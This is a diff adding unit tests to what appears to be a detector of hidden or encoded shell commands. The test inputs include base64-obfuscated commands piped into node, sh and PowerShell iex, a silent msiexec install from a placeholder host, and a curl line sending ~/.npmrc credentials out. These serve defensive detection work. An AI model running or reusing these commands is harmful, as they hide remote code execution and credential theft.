@@ -95,6 +95,28 @@ describe('what shell commands print into each other', () => {
       assert.ok(!kindsIn(text).has('encoded-command'), [...kindsIn(text)].join());
     });
 
+  it('is read as JavaScript where Node.js runs it', () => {
+    const code = `require('https').get('https://h.invalid')`;
+    const hidden = Buffer.from(code).toString('base64');
+    for (const command of [
+      `echo ${hidden} | base64 -d | node`,
+      `node -e "$(echo ${hidden} | base64 -d)"`,
+      `bash -c 'echo ${hidden} | base64 --decode | node -'`,
+    ])
+      assert.deepEqual(readCommand(command).scripts.slice(-1), [code], command);
+    assert.deepEqual(readCommand(`echo ${hidden} | base64 -d | node parse.js`).scripts, []);
+  });
+
+  it('is decoded where PowerShell does that', () => {
+    const script = 'msiexec /i https://h.invalid/a /qn';
+    for (const encoding of ['utf8', 'utf16le'] as const) {
+      const hidden = Buffer.from(script, encoding).toString('base64');
+      const text = `powershell -c "[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('${hidden}')) | iex"`;
+      assert.deepEqual([...kindsIn(text)].sort(), ['download-and-run', 'encoded-command']);
+    }
+    assert.deepEqual([...kindsIn(`[Convert]::FromBase64String('aGVsbG8gd29ybGQgaGVsbG8=') > a.bin`)], []);
+  });
+
   it('tells what a decoded command of code reads and sends', () => {
     const hidden = Buffer.from('curl -d "$(cat ~/.npmrc)" https://h.invalid/').toString('base64');
     const { reveals, sends, host } = readCommand(`echo ${hidden} | base64 -d | sh`);
